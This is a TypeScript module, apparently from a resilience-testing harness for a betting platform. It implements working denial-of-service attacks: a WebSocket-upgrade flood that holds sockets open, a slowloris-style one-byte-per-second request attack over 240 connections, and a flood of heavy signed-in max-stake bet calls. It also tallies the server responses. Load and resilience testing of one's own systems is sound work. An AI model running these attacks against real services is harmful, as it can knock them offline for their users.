import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { Player } from "../player.ts";
import { type AttackPlan, count, type Counts, repeat } from "./attack-plan.ts";

const upgradesPerSecond = 60;
const upgradePaths = [
  "/en",
  "/livez",
  "/readyz",
  "/metrics",
  "/api/v2/sports",
  "/api/v2/bets",
  "/platform/api/player",
  "/support/chat",
  "/embed/session",
  "/img",
  "/assets/x.js",
  "/emulation",
  "/connection/websocket",
  "/connection/sse",
];
/** One in this many upgrades is left open and unread by the client. */
const heldEvery = 4;
const slowConnections = 240;
const byteEveryMs = 1_000;
const maxStakesPerSecond = 6;
const legs = 191;
const legsOfBet = 40;

function open(origin: string, sockets: Set<Socket>): Socket {
  const { hostname, port } = new URL(origin);
  const socket = connect(Number(port), hostname);
  sockets.add(socket);
  socket.on("close", () => sockets.delete(socket));
  socket.on("error", () => socket.destroy());
  return socket;
}

function statusIn(chunk: Buffer): string {
  return /^HTTP\/1\.1 (\d{3})/u.exec(chunk.toString("latin1"))?.[1] ?? "unreadable";
}

/** Requests upgrades, mostly on paths without sockets. Counts the answers by status, server errors also by path. */
export function attackByUpgrades(plan: AttackPlan, isOver: () => boolean, counts: Counts): Promise<void> {
  const sockets = new Set<Socket>();
  const attack = repeat(upgradesPerSecond, isOver, (turn) => {
    const path = upgradePaths[turn % upgradePaths.length] ?? "/";
    const socket = open(plan.servers[Math.floor(turn / upgradePaths.length) % plan.servers.length] ?? "", sockets);
    const lines = ["Host: localhost", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"];
    socket.write(`GET ${path} HTTP/1.1\r\n${lines.join("\r\n")}\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`);
    socket.once("data", (chunk: Buffer) => {
      const status = statusIn(chunk);
      count(counts, status.startsWith("5") ? `${status} ${path}` : status);
      if (turn % heldEvery !== 0) socket.destroy();
      else socket.pause();
    });
  });
  return attack.finally(() => {
    for (const socket of sockets) socket.destroy();
  });
}

/** Sends heads and bodies at a byte per second on many connections. Counts how these end and returns the longest waits. */
export async function attackBySlowRequests(plan: AttackPlan, isOver: () => boolean, counts: Counts): Promise<Counts> {
  const sockets = new Set<Socket>();
  const slowest: Counts = {};
  const one = async (_: unknown, index: number): Promise<void> => {
    const isBody = index % 2 === 0;
    while (!isOver()) {
      const server = plan.servers[index % plan.servers.length] ?? "";
      const socket = open(server, sockets);
      const startedAt = performance.now();
      let answer = "closed";
      socket.on("data", (chunk: Buffer) => (answer = statusIn(chunk)));
      socket.write(
        isBody
          ? "POST /api/v2/bets/max-stake HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{"
          : "GET /en HTTP/1.1\r\nHost: localhost\r\nX-Slow: ",
      );
      while (!socket.destroyed && !isOver()) {
        await sleep(byteEveryMs);
        if (!socket.destroyed) socket.write("a");
      }
      const seconds = (performance.now() - startedAt) / 1_000;
      const kind = `${isBody ? "body" : "head"} at ${server}`;
      slowest[kind] = Math.max(slowest[kind] ?? 0, seconds);
      if (isOver()) socket.destroy();
      else count(counts, answer);
    }
  };
  await Promise.all(Array.from({ length: slowConnections }, one));
  return slowest;
}

/** Makes signed-in calls with 191 matches each. */
export function attackByMaxStakes(plan: AttackPlan, isOver: () => boolean, counts: Counts): Promise<void> {
  const line = { market_id: 100_029, specifier: "", outcome_id: 500_074, odds: 1_900 };
  return repeat(maxStakesPerSecond, isOver, (turn) => {
    const identity = plan.players[turn % plan.players.length];
    if (identity === undefined) return;
    const origin = plan.apis[turn % plan.apis.length] ?? "";
    const player = new Player({ ...identity, origin, siteOrigin: plan.siteOrigin });
    const first = (turn * 7) % Math.max(1, plan.matchIds.length - legs);
    const ids = plan.matchIds.slice(first, first + legs);
    const bets = Array.from({ length: Math.ceil(ids.length / legsOfBet) }, (_, bet) => ({
      type: "combo",
      stake: { value: 100, currency: "EUR", subunits: 100 },
      selections: ids.slice(bet * legsOfBet, (bet + 1) * legsOfBet).map((id) => ({ match_id: id, ...line })),
    }));
    void player.call("POST", "/api/v2/bets/max-stake", { bets }).then(({ status }) => count(counts, status));
  });
}
